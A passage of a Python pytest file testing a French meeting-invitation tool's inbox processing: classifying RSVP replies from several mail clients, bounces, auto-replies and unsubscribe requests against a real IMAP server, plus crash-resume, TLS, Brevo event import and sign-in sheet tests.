"""`comms inbox` against a real Dovecot: RSVPs in the five clients' shapes, DSNs, auto-replies,
mailto unsubscribes and other mail; counts per meeting, once-only processing, kill -9 and
resume; then `comms rsvp`."""

from __future__ import annotations

import csv
import datetime
import io
import os
import time
from pathlib import Path

import inbox_mail as mails
import pytest
from cli_runner import cli
from conftest import write
from imap_server import Mailbox
from inbox_mail import Reply
from smtp_servers import smtp_env

from comms.inbox.classify import AUTO_REPLY, BOUNCE, COUNTER, OTHER, REPLY, UNSUBSCRIBE, classify
from comms.inbox.mailbox import HANDLED_KEYWORD
from comms.send.journal import Journal
from comms.send.tokens import make_token
from comms.settings import load_settings

SECRET = "test-secret-0123456789abcdef"
TODAY = "2027-01-10"
NBSP = "\u00a0"
COPIL_UID = "2027-03-copil@sante.example.org"
GT_UID = "2027-04-gt@sante.example.org"
ANNE = "anne.durand@mairie.example.org"
HEADER = "email;first_name;last_name;organisation;role;lists;consent_on;unsubscribed_on\n"
PEOPLE = {
    "anne.durand@mairie.example.org": ("Anne", "Durand", "Mairie de Lisière"),
    "paul.roche@ars.example.org": ("Paul", "Roche", "ARS"),
    "karim@cmp.example.org": ("Karim", "Haddad", "CMP"),
    "nina.petit@mda.example.org": ("Nina", "Petit", "MDA"),
    "lucie.blanc@ccas.example.org": ("Lucie", "Blanc", "CCAS"),
    "marc.noir@cpam.example.org": ("Marc", "Noir", "CPAM"),
    "ines.vert@ville.example.org": ("Inès", "Vert", "Ville"),
}


def partners() -> str:
    rows = [f"{e};{first};{last};{org};Membre;newsletter|copil;2026-01-10;\n"
            for e, (first, last, org) in PEOPLE.items()]
    rows[1] = rows[1].replace("newsletter|copil", "newsletter|copil|gt-logement")
    return HEADER + "".join(rows)



@pytest.fixture
def territory(root: Path, smtp_server) -> Path:
    """Invitations to the COPIL (7 partners) and the GT (1) sent through a real SMTP
    server, as the journal records them."""
    write(root, "content/partners.csv", partners())
    result = cli("invite", "--confirm", "--root", str(root), "--today", TODAY,
                 env=smtp_env(smtp_server))
    assert result.exit_code == 0, result.output
    return root


def env_for(mailbox: Mailbox, smtp_server=None, **extra: str) -> dict[str, str]:
    env = {"COMMS_UNSUBSCRIBE_SECRET": SECRET, **mailbox.env(**extra)}
    if smtp_server is not None:
        env.update(smtp_env(smtp_server))
    return env


def inbox(root: Path, mailbox: Mailbox, *args: str, **extra: str):
    return cli("inbox", *args, "--root", str(root), env=env_for(mailbox, **extra))


def answers(root: Path) -> dict[tuple[str, str], tuple[str, int]]:
    with Journal.open(root) as journal:
        return {(r["event_id"], r["email"]): (r["partstat"], r["sequence"]) for r in
                journal.db.execute("SELECT * FROM rsvp_answers")}


def journal_rows(root: Path, sql: str) -> list:
    with Journal.open(root) as journal:
        return [tuple(r) for r in journal.db.execute(sql)]


def bound_secret(root: Path) -> str:
    """The territory-bound secret `comms inbox` reads tokens with."""
    return load_settings(root, environ={"COMMS_UNSUBSCRIBE_SECRET": SECRET}).require_secret()


def copil_message_id(root: Path, email: str) -> str:
    (row,) = journal_rows(root, "SELECT message_id FROM messages WHERE recipient = "
                          f"'{email}' AND campaign LIKE 'invite-2027-03-copil-%'")
    return row[0]


def a_day_of_mail(root: Path) -> list[bytes]:
    """One of each: the five clients, a delegation, a COUNTER, three DSNs, two auto-replies,
    a mailto unsubscribe, a question, a REPLY for an unknown meeting."""
    emails = list(PEOPLE)
    return [
        mails.outlook(Reply(COPIL_UID, emails[0], "ACCEPTED", name="Anne Durand")),
        mails.gmail(Reply(COPIL_UID, emails[1], "DECLINED", name="Paul Roche",
                          comment="Je serai en congé, ma collègue viendra.")),
        mails.zimbra(Reply(COPIL_UID, emails[2], "TENTATIVE")),
        mails.apple(Reply(COPIL_UID, emails[3], "ACCEPTED")),
        mails.thunderbird(Reply(GT_UID, emails[1], "ACCEPTED",
                                organizer="karim.benali@sante.example.org")),
        mails.outlook(Reply(COPIL_UID, emails[4], "DELEGATED",
                            delegated_to="adjointe@ccas.example.org",
                            delegate="adjointe@ccas.example.org")),
        mails.gmail(Reply(COPIL_UID, emails[0], "ACCEPTED", method="COUNTER",
                          dtstart="20270325T130000Z", comment="Plutôt le 25 ?")),
        mails.postfix_dsn(emails[5], copil_message_id(root, emails[5])),
        mails.gmail_delayed(emails[6], copil_message_id(root, emails[6])),
        mails.out_of_office(emails[3]),
        mails.absence(emails[2]),
        mails.unsubscribe_mail(emails[2], make_token(bound_secret(root), emails[2],
                                                              "instance:copil")),
        mails.unrelated(emails[0]),
        mails.thunderbird(Reply("inconnu-123@autre.example.org", emails[0], "ACCEPTED")),
    ]


# --------------------------------------------------------------------------- classification


@pytest.mark.parametrize("client", sorted(mails.CLIENTS))
def test_each_clients_reply_is_read(client):
    build = mails.CLIENTS[client]
    item = classify(build(Reply(COPIL_UID, "anne.durand@mairie.example.org", "TENTATIVE",
                                sequence=2, comment="Peut-être en retard")))
    assert item.kind == REPLY
    (answer,) = item.answers  # the inline part and the attachment count once
    assert (answer.uid, answer.sequence, answer.comment) == (COPIL_UID, 2, "Peut-être en retard")
    (person,) = answer.attendees
    assert (person.email, person.partstat) == ("anne.durand@mairie.example.org", "TENTATIVE")


def test_a_reply_without_sequence_answers_version_zero():
    item = classify(mails.apple(Reply(COPIL_UID, "a@b.example.org", sequence=None)))
    assert item.answers[0].sequence == 0


@pytest.mark.parametrize(("mail", "kind", "hard", "soft"), [
    (mails.postfix_dsn("x@dead.example.org", "<m@s>"), BOUNCE, ("x@dead.example.org",), ()),
    (mails.exchange_ndr("y@dead.example.org", "<m@s>"), BOUNCE, ("y@dead.example.org",), ()),
    (mails.gmail_delayed("z@full.example.org", "<m@s>"), BOUNCE, (), ("z@full.example.org",)),
    (mails.qmail_bounce("q@old.example.net"), BOUNCE, ("q@old.example.net",), ()),
    (mails.out_of_office("a@b.example.org"), AUTO_REPLY, (), ()),
    (mails.absence("a@b.example.org"), AUTO_REPLY, (), ()),
    (mails.unrelated("a@b.example.org"), OTHER, (), ()),
])
def test_bounces_auto_replies_and_the_rest(mail, kind, hard, soft):
    item = classify(mail)
    assert (item.kind, item.hard, item.soft) == (kind, hard, soft)


def test_the_returned_message_id_names_the_campaign():
    item = classify(mails.postfix_dsn("x@dead.example.org", "<invite-a.1@sante.example.org>"))
    assert "<invite-a.1@sante.example.org>" in item.original_ids


def test_unsubscribe_token_from_subject_or_body():
    token = make_token(SECRET, "a@b.example.org", "newsletter")
    for mail in (mails.unsubscribe_mail("a@b.example.org", token),
                 mails.unsubscribe_mail("a@b.example.org", token, in_body=True)):
        item = classify(mail)
        assert (item.kind, item.token_text) == (UNSUBSCRIBE, token)


def test_counter_is_not_a_reply():
    item = classify(mails.gmail(Reply(COPIL_UID, "a@b.example.org", method="COUNTER",
                                      dtstart="20270325T130000Z")))
    assert item.kind == COUNTER
    assert item.answers[0].proposed_start.startswith("2027-03-25T13:00")


# --------------------------------------------------------------------------- the whole run


def test_a_day_of_mail_counted_per_meeting_then_nothing_twice(territory, mailbox, smtp_server):
    emails = list(PEOPLE)
    mailbox.deliver(*a_day_of_mail(territory))
    result = inbox(territory, mailbox)
    assert result.exit_code == 0, result.output
    got = answers(territory)
    assert got == {
        ("2027-03-copil", emails[0]): ("ACCEPTED", 0),
        ("2027-03-copil", emails[1]): ("DECLINED", 0),
        ("2027-03-copil", emails[2]): ("TENTATIVE", 0),
        ("2027-03-copil", emails[3]): ("ACCEPTED", 0),
        ("2027-03-copil", emails[4]): ("DELEGATED", 0),
        ("2027-03-copil", "adjointe@ccas.example.org"): ("ACCEPTED", 0),
        ("2027-04-gt", emails[1]): ("ACCEPTED", 0),
    }
    out = result.output
    assert f"2027-03-copil{NBSP}: 3 accepté, 1 peut-être, 1 refusé, 1 délégué" in out
    assert f"2027-04-gt{NBSP}: 1 accepté" in out
    assert (f"propose un autre horaire pour le jeudi 25 mars 2027 à 14{NBSP}h pour "
            f"«{NBSP}2027-03-copil{NBSP}» («{NBSP}Plutôt le 25 ?{NBSP}»)") in out  # 13:00 UTC
    assert "non appliqué" in out
    assert "inconnu-123@autre.example.org" in out
    assert f"Réponses automatiques (absences) ignorées{NBSP}: 2" in out
    assert f"Bilan{NBSP}: 14 messages lus, 11 traités, 3 laissés non lus" in out

    with Journal.open(territory) as journal:
        assert journal.suppression(emails[5]).reason == "bounce"  # hard: everything stops
        assert journal.suppression(emails[2]).reason == "unsubscribe"
        assert journal.suppression(emails[6]) is None  # one soft bounce is not enough
        (campaign,) = [r[0] for r in journal.db.execute(
            "SELECT campaign FROM bounces WHERE email = ?", (emails[5],))]
        assert campaign.startswith("invite-2027-03-copil-")

    flags = mailbox.flags()
    unread = [uid for uid, f in flags.items() if b"\\Seen" not in f]
    assert len(unread) == 3  # the COUNTER, the question, the unknown meeting
    assert sum(HANDLED_KEYWORD.encode() in f for f in flags.values()) == 11

    report = cli("report", "2027", "--root", str(territory), "--csv",
                 str(territory / "rapport.csv"), env=env_for(mailbox))
    assert report.exit_code == 0, report.output
    rows = {r["indicateur"]: r["valeur"] for r in csv.DictReader(
        io.StringIO((territory / "rapport.csv").read_text(encoding="utf-8-sig")),
        delimiter=";")}
    copil = "Comité de pilotage"
    assert rows[f"Invitations envoyées (personnes) — {copil}"] == "7"
    assert rows[f"Réponses — {copil}"] == "5"  # the delegate holds no invitation herself
    assert rows[f"Acceptations — {copil}"] == "2"
    assert rows[f"Refus — {copil}"] == "1"
    assert rows[f"Réponses «{NBSP}peut-être{NBSP}» — {copil}"] == "1"
    assert [v for k, v in rows.items() if k.startswith("Acceptations — Groupe")] == ["1"]
    assert rows["Adresses en échec définitif — invitations"] == "1"
    assert rows["Adresses en échec temporaire — invitations"] == "1"
    this_year = str(datetime.date.today().year)  # unsubscribes count the year they came
    assert cli("report", this_year, "--root", str(territory), "--csv",
               str(territory / "rapport-now.csv"), env=env_for(mailbox)).exit_code == 0
    now_rows = {r["indicateur"]: r["valeur"] for r in csv.DictReader(
        io.StringIO((territory / "rapport-now.csv").read_text(encoding="utf-8-sig")),
        delimiter=";")}
    assert now_rows[f"Désinscriptions — les invitations de «{NBSP}{copil}{NBSP}»"] == "1"

    again = inbox(territory, mailbox)
    assert again.exit_code == 0, again.output
    assert f"Bilan{NBSP}: 0 message lu, 0 traité, 0 laissé non lu" in again.output
    assert answers(territory) == got

    # the next send skips the bounced and the unsubscribed addresses
    write(territory, "calendars/events/2027-05-copil.md",
          "---\ninstance: copil\ntitle: Second COPIL\nstart: 2027-05-20 14:00\n"
          "end: 2027-05-20 16:00\nlocation: Mairie\n---\nTexte.\n")
    smtp_server.handler.messages.clear()
    sent = cli("invite", "2027-05-copil", "--confirm", "--root", str(territory), "--today",
               TODAY, env=smtp_env(smtp_server))
    assert sent.exit_code == 0, sent.output
    to = {m.rcpt_tos[0] for m in smtp_server.handler.messages}
    assert emails[5] not in to and emails[2] not in to
    assert emails[0] in to and emails[6] in to


def test_soft_bounces_in_a_row_suppress_after_the_limit(territory, mailbox):
    email = list(PEOPLE)[6]
    mid = copil_message_id(territory, email)
    mailbox.deliver(mails.gmail_delayed(email, mid))
    assert inbox(territory, mailbox, BOUNCE_SOFT_LIMIT="2").exit_code == 0
    with Journal.open(territory) as journal:
        assert not journal.is_suppressed(email, "newsletter")
    mailbox.deliver(mails.gmail_delayed(email, "<unknown-campaign@sante.example.org>"))
    result = inbox(territory, mailbox, BOUNCE_SOFT_LIMIT="2")
    assert "Écartées après plusieurs échecs temporaires" in result.output
    with Journal.open(territory) as journal:
        assert journal.suppression(email).reason == "bounce"


def test_an_update_resets_the_answer_until_she_answers_again(territory, mailbox, smtp_server):
    anne, paul = list(PEOPLE)[:2]
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, anne, "ACCEPTED")),
                    mails.gmail(Reply(COPIL_UID, paul, "DECLINED")))
    assert inbox(territory, mailbox).exit_code == 0
    # the meeting moves: everybody gets SEQUENCE 1
    write(territory, "calendars/events/2027-03-copil.md",
          "---\ninstance: copil\nstart: 2027-03-18 15:00\nend: 2027-03-18 17:00\n"
          "location: Mairie\n---\nOrdre du jour.\n")
    sent = cli("invite", "--confirm", "--root", str(territory), "--today", TODAY,
               env=smtp_env(smtp_server))
    assert sent.exit_code == 0, sent.output
    listing = cli("rsvp", "2027-03-copil", "--csv", "--root", str(territory),
                  env=env_for(mailbox))
    rows = {r["adresse"]: r for r in csv.DictReader(io.StringIO(listing.output.lstrip("\ufeff")),
                                                     delimiter=";")}
    assert rows[anne]["réponse"] == "pas encore répondu"
    assert "accepté" in rows[anne]["remarque"]
    # Paul answers the old version late (SEQUENCE 0), Anne the update (SEQUENCE 1)
    mailbox.deliver(mails.zimbra(Reply(COPIL_UID, paul, "ACCEPTED", sequence=0,
                                       dtstamp="20270113T090000Z")),
                    mails.apple(Reply(COPIL_UID, anne, "ACCEPTED", sequence=1)))
    result = inbox(territory, mailbox)
    assert "version précédente" in result.output and paul in result.output
    listing = cli("rsvp", "2027-03-copil", "--csv", "--root", str(territory),
                  env=env_for(mailbox))
    rows = {r["adresse"]: r for r in csv.DictReader(io.StringIO(listing.output.lstrip("\ufeff")),
                                                     delimiter=";")}
    assert rows[anne]["réponse"] == "accepté"
    assert rows[paul]["réponse"] == "pas encore répondu"
    assert len(rows) == len(PEOPLE)


# --------------------------------------------------------------------------- kill -9


CROWD = 60


def test_kill_nine_mid_run_then_resume_counts_every_answer_once(root, smtp_server, mailbox):
    """Runs of `comms inbox` killed at random moments, then one to finish: every answer
    recorded once, every message marked once, nothing left behind."""
    import random
    import signal
    import subprocess
    import sys
    import time

    people = [f"p{i:02d}@structure{i % 7}.example.org" for i in range(CROWD)]
    write(root, "content/partners.csv", HEADER + "".join(
        f"{p};P{i};N{i};Structure {i % 7};Membre;copil|gt-logement;2026-01-10;\n"
        for i, p in enumerate(people)))
    assert cli("invite", "--confirm", "--root", str(root), "--today", TODAY,
               env=smtp_env(smtp_server)).exit_code == 0
    rng = random.Random(9)
    states = ("ACCEPTED", "DECLINED", "TENTATIVE")
    expected = {}
    batch = []
    for i, person in enumerate(people):
        state = states[i % 3]
        expected[person] = state
        build = mails.CLIENTS[sorted(mails.CLIENTS)[i % 5]]
        batch.append(build(Reply(COPIL_UID, person, state)))
    soft = people[:5]
    with Journal.open(root) as journal:
        mids = {p: journal.db.execute("SELECT message_id FROM messages WHERE recipient = ?",
                                      (p,)).fetchone()[0] for p in soft}
    batch += [mails.gmail_delayed(p, mids[p]) for p in soft]
    rng.shuffle(batch)
    mailbox.deliver(*batch)
    write(root, ".env", "".join(f"{k}={v}\n" for k, v in
                                env_for(mailbox, BOUNCE_SOFT_LIMIT="2").items()))
    command = [sys.executable, "-m", "comms", "inbox", "--root", str(root)]
    child_env = {k: v for k, v in os.environ.items()
                 if not k.startswith(("COMMS_", "SMTP_", "BREVO_", "IMAP_"))}

    def recorded() -> int:
        with Journal.open(root) as journal:
            return journal.db.execute("SELECT COUNT(*) FROM inbox_messages").fetchone()[0]

    kills = 0
    for _ in range(6):
        before = recorded()
        if before == len(batch):
            break
        process = subprocess.Popen(command, env=child_env, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL)
        wanted = before + rng.randint(3, 12)
        deadline = time.monotonic() + 20
        while recorded() < wanted and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.002)
        process.send_signal(signal.SIGKILL)
        process.wait()
        kills += process.returncode == -signal.SIGKILL
    assert kills >= 3, "the drill must kill runs in progress"
    final = subprocess.run(command, env=child_env, capture_output=True, text=True, timeout=120)
    assert final.returncode == 0, final.stdout + final.stderr
    again = subprocess.run(command, env=child_env, capture_output=True, text=True, timeout=120)
    assert f"Bilan{NBSP}: 0 message lu" in again.stdout, again.stdout

    got = answers(root)
    assert {email: state for (_event, email), (state, _seq) in got.items()} == expected
    rows = journal_rows(root, "SELECT uid, kind FROM inbox_messages")
    assert len(rows) == len(batch) == len({uid for uid, _ in rows})
    assert sum(kind == "reply" for _, kind in rows) == CROWD
    flags = mailbox.flags()
    assert len(flags) == len(batch)
    assert all(HANDLED_KEYWORD.encode() in f and b"\\Seen" in f for f in flags.values())
    # one temporary failure each, below the limit of 2: counted once, nobody suppressed
    with Journal.open(root) as journal:
        assert not any(journal.is_suppressed(p) for p in soft)
        assert journal.db.execute("SELECT COUNT(*) FROM bounces").fetchone()[0] == len(soft)


# --------------------------------------------------------------------------- bad input


def test_a_refused_login_is_french_and_never_shows_the_password(territory, mailbox):
    result = inbox(territory, mailbox, IMAP_PASSWORD="mauvais-mot-de-passe-42")
    assert result.exit_code == 1
    assert "Identifiants refusés" in result.output and "IMAP_PASSWORD" in result.output
    assert "mauvais-mot-de-passe-42" not in result.output
    assert "Traceback" not in result.output


def test_a_missing_folder_is_named_with_the_existing_ones(territory, mailbox):
    mailbox.deliver(mails.unrelated("a@b.example.org"))
    result = inbox(territory, mailbox, IMAP_FOLDER="Réponses")
    assert result.exit_code == 1
    assert f"Le dossier «{NBSP}Réponses{NBSP}» n’existe pas" in result.output
    assert "INBOX" in result.output


def test_starttls_with_the_servers_certificate_then_a_tls_failure(territory, mailbox,
                                                                   dovecot):
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")))
    ok = inbox(territory, mailbox, IMAP_SECURITY="starttls", IMAP_ALLOW_PLAIN_LOOPBACK="false",
               IMAP_CA_FILE=str(dovecot.tls.cert))
    assert ok.exit_code == 0, ok.output
    assert answers(territory)
    mailbox.deliver(mails.gmail(Reply(COPIL_UID, list(PEOPLE)[1], "DECLINED")))
    imaps = inbox(territory, mailbox, IMAP_SECURITY="tls", IMAP_PORT=str(dovecot.tls_port),
                  IMAP_ALLOW_PLAIN_LOOPBACK="false", IMAP_CA_FILE=str(dovecot.tls.cert))
    assert imaps.exit_code == 0, imaps.output
    assert len(answers(territory)) == 2
    refused = inbox(territory, mailbox, IMAP_SECURITY="tls", IMAP_PORT=str(dovecot.tls_port),
                    IMAP_ALLOW_PLAIN_LOOPBACK="false")  # self-signed, no IMAP_CA_FILE
    assert refused.exit_code == 1
    assert "Connexion chiffrée au serveur de messagerie" in refused.output
    assert "IMAP_CA_FILE" in refused.output


def test_plain_imap_is_refused_beyond_loopback(territory, mailbox):
    result = inbox(territory, mailbox, IMAP_HOST="imap.example.org")
    assert result.exit_code == 1
    assert "IMAP_SECURITY" in result.output and "en clair" in result.output


def test_unreadable_replies_and_vanished_events_are_reported_and_left_unread(
        territory, mailbox):
    anne = ANNE
    broken = mails.thunderbird(Reply(COPIL_UID, anne)).replace(b"BEGIN:VEVENT", b"BEGIN:VEVEN")
    no_address = mails.postfix_dsn("x@dead.example.org", "<m@s>").replace(
        b"x@dead.example.org", b"quelqu-un")
    mailbox.deliver(broken, no_address,
                    mails.apple(Reply(GT_UID, list(PEOPLE)[1], "ACCEPTED")))
    (territory / "calendars/events/2027-04-gt.md").unlink()  # the GT was removed since
    result = inbox(territory, mailbox)
    assert result.exit_code == 0, result.output
    assert "réponse d’agenda illisible" in result.output
    assert "avis de non-remise sans adresse reconnaissable" in result.output
    assert f"«{NBSP}2027-04-gt{NBSP}», qui n’existe plus" in result.output
    assert answers(territory) == {}
    assert all(b"\\Seen" not in f for f in mailbox.flags().values())


def bound_secret_token(root, address: str) -> str:
    return make_token(bound_secret(root), address, "all")


def test_a_forged_unsubscribe_token_changes_nothing(territory, mailbox):
    anne = ANNE
    forged = make_token("another-secret-0123456789", anne, "all")
    mailbox.deliver(mails.unsubscribe_mail(anne, forged),
                    mails.unsubscribe_mail(anne, bound_secret_token(territory, anne)[:-4]))
    result = inbox(territory, mailbox)
    # Made under another secret: named; damaged: invalid.
    assert f"{anne}{NBSP}: demande de désinscription avec un jeton d’un autre territoire" \
        in result.output
    assert "jeton invalide" in result.output
    with Journal.open(territory) as journal:
        assert not journal.is_suppressed(anne)


def test_dry_run_records_and_marks_nothing(territory, mailbox):
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")))
    result = inbox(territory, mailbox, "--dry-run", IMAP_DONE_FOLDER="Traités")
    assert result.exit_code == 0, result.output
    assert f"2027-03-copil{NBSP}: 1 accepté" in result.output
    assert answers(territory) == {}
    assert all(b"\\Seen" not in f for f in mailbox.flags().values())
    with mailbox.client() as client:
        assert not client.folder_exists("Traités")  # not even the done folder is created


def test_handled_messages_move_to_the_done_folder(territory, mailbox):
    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "ACCEPTED")),
                    mails.unrelated("a@b.example.org"))
    result = inbox(territory, mailbox, IMAP_DONE_FOLDER="Traités")
    assert result.exit_code == 0, result.output
    assert len(mailbox.flags()) == 1  # the question stays
    assert len(mailbox.flags("Traités")) == 1


def test_two_accounts_and_a_copy_in_both_counted_once(territory, mailbox, dovecot):
    other = dovecot.add_user()
    reply = mails.gmail(Reply(COPIL_UID, ANNE, "ACCEPTED"))
    mailbox.deliver(reply)
    other.deliver(reply, mails.outlook(Reply(COPIL_UID, list(PEOPLE)[1], "DECLINED")))
    env = {"IMAP_ACCOUNTS": "claire,lettre", "IMAP_CLAIRE_USER": mailbox.user,
           "IMAP_CLAIRE_PASSWORD": mailbox.password, "IMAP_LETTRE_USER": other.user,
           "IMAP_LETTRE_PASSWORD": other.password, "IMAP_USER": "", "IMAP_PASSWORD": ""}
    result = inbox(territory, mailbox, **env)
    assert result.exit_code == 0, result.output
    assert f"2027-03-copil{NBSP}: 1 accepté, 1 refusé" in result.output
    assert "1 message déjà traité sous un autre numéro" in result.output


def test_make_daily_reads_the_mailbox_before_sending(territory, mailbox, smtp_server):
    """`make daily`: the bounce read first, so the day's send already skips the address."""
    import shutil
    import subprocess

    repo = Path(__file__).resolve().parent.parent
    dead = list(PEOPLE)[5]
    mailbox.deliver(mails.exchange_ndr(dead, copil_message_id(territory, dead)))
    write(territory, "calendars/events/2027-05-copil.md",
          "---\ninstance: copil\ntitle: Second COPIL\nstart: 2027-05-20 14:00\n"
          "end: 2027-05-20 16:00\nlocation: Mairie\n---\nTexte.\n")
    write(territory, ".env", "".join(f"{k}={v}\n" for k, v in
                                     env_for(mailbox, smtp_server).items()))
    smtp_server.handler.messages.clear()
    child_env = {k: v for k, v in os.environ.items()
                 if not k.startswith(("COMMS_", "SMTP_", "BREVO_", "IMAP_"))}
    result = subprocess.run([shutil.which("make") or "make", "-s", "-C", str(repo), "daily",
                             f"ROOT={territory}"], env=child_env, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.index("Adresses en échec définitif") < result.stdout.index(
        "Second COPIL")
    to = {m.rcpt_tos[0] for m in smtp_server.handler.messages}
    assert dead not in to and ANNE in to


def test_inbox_if_configured_does_nothing_without_a_mailbox(territory):
    result = cli("inbox", "--if-configured", "--root", str(territory),
                 env={"COMMS_UNSUBSCRIBE_SECRET": SECRET})
    assert result.exit_code == 0 and "rien à lire" in result.output
    refused = cli("inbox", "--root", str(territory), env={"COMMS_UNSUBSCRIBE_SECRET": SECRET})
    assert refused.exit_code == 1 and "IMAP_HOST" in refused.output


# --------------------------------------------------------------------------- émargement


def sheet_rows(html: str) -> list[list[str]]:
    """The table body's rows as cell texts, read with the standard HTML parser."""
    from html.parser import HTMLParser

    class Rows(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.rows: list[list[str]] = []
            self.cell: list[str] | None = None
            self.body = False

        def handle_starttag(self, tag, attrs):
            if tag == "tbody":
                self.body = True
            elif tag == "tr" and self.body:
                self.rows.append([])
            elif tag == "td" and self.body:
                self.cell = []

        def handle_endtag(self, tag):
            if tag == "td" and self.cell is not None:
                self.rows[-1].append(" ".join("".join(self.cell).split()))
                self.cell = None

        def handle_data(self, data):
            if self.cell is not None:
                self.cell.append(data + " ")

    parser = Rows()
    parser.feed(html)
    return parser.rows


def test_emargement_lists_who_is_expected_accepted_first(territory, mailbox):
    emails = list(PEOPLE)
    mailbox.deliver(
        mails.outlook(Reply(COPIL_UID, emails[3], "ACCEPTED")),       # Nina
        mails.gmail(Reply(COPIL_UID, emails[0], "ACCEPTED")),         # Anne
        mails.zimbra(Reply(COPIL_UID, emails[1], "DECLINED")),        # Paul: not expected
        mails.apple(Reply(COPIL_UID, emails[2], "TENTATIVE")),        # Karim
        mails.outlook(Reply(COPIL_UID, emails[4], "DELEGATED",        # Lucie -> her deputy
                            delegated_to="adjointe@ccas.example.org",
                            delegate="adjointe@ccas.example.org")))
    assert inbox(territory, mailbox).exit_code == 0
    result = cli("emargement", "2027-03-copil", "--root", str(territory), env=env_for(mailbox))
    assert result.exit_code == 0, result.output
    path = territory / "build/emargement/2027-03-copil.html"
    assert str(path) in result.output
    html = path.read_text(encoding="utf-8")
    assert f"Jeudi 18 mars 2027 de 14{NBSP}h à 16{NBSP}h{NBSP}30" in html and "Mairie" in html
    rows = sheet_rows(html)
    named = [r for r in rows if r[1]]
    assert [r[1].split(" a répondu")[0].split(" n’a pas")[0] for r in named] == [
        "adjointe@ccas.example.org", "Anne Durand", "Nina Petit", "Karim Haddad",
        "Inès Vert", "Marc Noir"]
    assert named[1][2] == "Mairie de Lisière" and all(r[3] == "" for r in rows)
    assert "peut-être" in named[3][1] and "n’a pas répondu" in named[4][1]
    assert len(rows) == len(named) + 5  # blank rows for people who come unannounced
    assert not any("Paul" in r[1] or "Lucie" in r[1] for r in rows)


def test_emargement_names_a_day_the_meeting_does_not_take_place_in_french(territory, mailbox):
    assert inbox(territory, mailbox).exit_code == 0
    result = cli("emargement", "2027-03-copil", "--date", "19/03/2027", "--root", str(territory),
                 env=env_for(mailbox))
    assert result.exit_code == 1
    assert "n’a pas lieu le vendredi 19 mars 2027" in result.output
    assert "2027-03-18" in result.output  # the dates it does take place, as they are typed


def test_emargement_refuses_an_event_never_sent(territory, mailbox):
    write(territory, "calendars/events/2027-06-copil.md",
          "---\ninstance: copil\nstart: 2027-06-10 14:00\nend: 2027-06-10 16:00\n"
          "location: Mairie\n---\nTexte.\n")
    result = cli("emargement", "2027-06-copil", "--root", str(territory), env=env_for(mailbox))
    assert result.exit_code == 1
    assert "Aucune invitation n’a été envoyée" in result.output


# --------------------------------------------------------------------------- Brevo events


BREVO_KEY = "xkeysib-test-0123456789"


class BrevoEvents:
    """Brevo's GET /v3/smtp/statistics/events as far as we rely on it: the api-key header,
    `event` filter, `limit`/`offset` paging, {"events": [...]}."""

    def __init__(self, events: list[dict]) -> None:
        self.events = events
        self.requests: list[dict] = []

    def __call__(self, request):
        import json

        from werkzeug import Response

        if request.headers.get("api-key") != BREVO_KEY:
            return Response(json.dumps({"code": "unauthorized", "message": "Key not found"}),
                            status=401, content_type="application/json")
        args = request.args
        self.requests.append(dict(args))
        chosen = [e for e in self.events if e["event"] == args["event"]]
        offset, limit = int(args.get("offset", 0)), int(args.get("limit", 2500))
        return Response(json.dumps({"events": chosen[offset:offset + limit]}),
                        content_type="application/json")


def test_brevo_hard_bounces_and_unsubscribes_join_the_suppression_list(territory, httpserver,
                                                                       monkeypatch):
    from comms.inbox import brevo_events

    monkeypatch.setattr(brevo_events, "PAGE", 2)  # three hard bounces: two pages
    emails = list(PEOPLE)
    mid = copil_message_id(territory, emails[5])
    events = [{"email": emails[5], "date": "2027-01-11T09:00:00.000Z", "messageId": mid,
               "event": "hardBounces", "reason": "550 5.1.1 user unknown"},
              {"email": emails[6], "date": "2027-01-11T09:01:00.000Z", "messageId": "<x@y>",
               "event": "hardBounces", "reason": "550 no such user"},
              {"email": "ancien@example.org", "date": "2027-01-11T09:02:00.000Z",
               "messageId": "", "event": "hardBounces", "reason": "550"},
              {"email": emails[3], "date": "2027-01-12T10:00:00.000Z", "messageId": "<z@y>",
               "event": "unsubscribed"}]
    api = BrevoEvents(events)
    httpserver.expect_request("/v3/smtp/statistics/events", method="GET") \
        .respond_with_handler(api)
    env = {"COMMS_TRANSPORT": "brevo", "BREVO_API_KEY": BREVO_KEY,
           "BREVO_API_URL": httpserver.url_for("/v3"), "COMMS_UNSUBSCRIBE_SECRET": SECRET}
    result = cli("inbox", "--root", str(territory), env=env)
    assert result.exit_code == 0, result.output
    assert "Brevo" in result.output and "4 évènements lus" in result.output
    assert [r["offset"] for r in api.requests if r["event"] == "hardBounces"] == ["0", "2"]
    with Journal.open(territory) as journal:
        for email in (emails[5], emails[6], "ancien@example.org"):
            assert journal.suppression(email).reason == "bounce"
        assert journal.suppression(emails[3]).reason == "unsubscribe"
        (campaign,) = [r[0] for r in journal.db.execute(
            "SELECT campaign FROM bounces WHERE email = ?", (emails[5],))]
        assert campaign.startswith("invite-2027-03-copil-")
    again = cli("inbox", "--root", str(territory), env=env)
    assert again.exit_code == 0 and "écartées" not in again.output
    assert journal_rows(territory, "SELECT COUNT(*) FROM bounces") == [(3,)]
    refused = cli("inbox", "--root", str(territory), env={**env, "BREVO_API_KEY": "faux"})
    assert refused.exit_code == 1 and "Clé API Brevo refusée" in refused.output
    assert "faux" not in refused.output


# --------------------------------------------------------------------------- journée


def test_the_journee_thanks_go_to_those_who_accepted(root, mailbox, smtp_server):
    from test_due import JOURNEE_EVENT, JOURNEE_INSTANCE
    from test_due import PARTNERS as JOURNEE_PARTNERS

    write(root, "content/partners.csv", JOURNEE_PARTNERS)
    write(root, "calendars/instances.yaml",
          (root / "calendars/instances.yaml").read_text(encoding="utf-8")
          + JOURNEE_INSTANCE.replace("  thanks_to: all  # no mailbox is read here: thank the "
                                     "whole audience\n", ""))
    write(root, "calendars/events/2027-06-journee.md", JOURNEE_EVENT)
    env = env_for(mailbox, smtp_server)
    assert cli("due", "--date", "2027-05-11", "--run", "--confirm", "--root", str(root),
               env=env).exit_code == 0
    uid = "2027-06-journee@sante.example.org"
    mailbox.deliver(
        mails.outlook(Reply(uid, "anne.durand@mairie.example.org", "ACCEPTED",
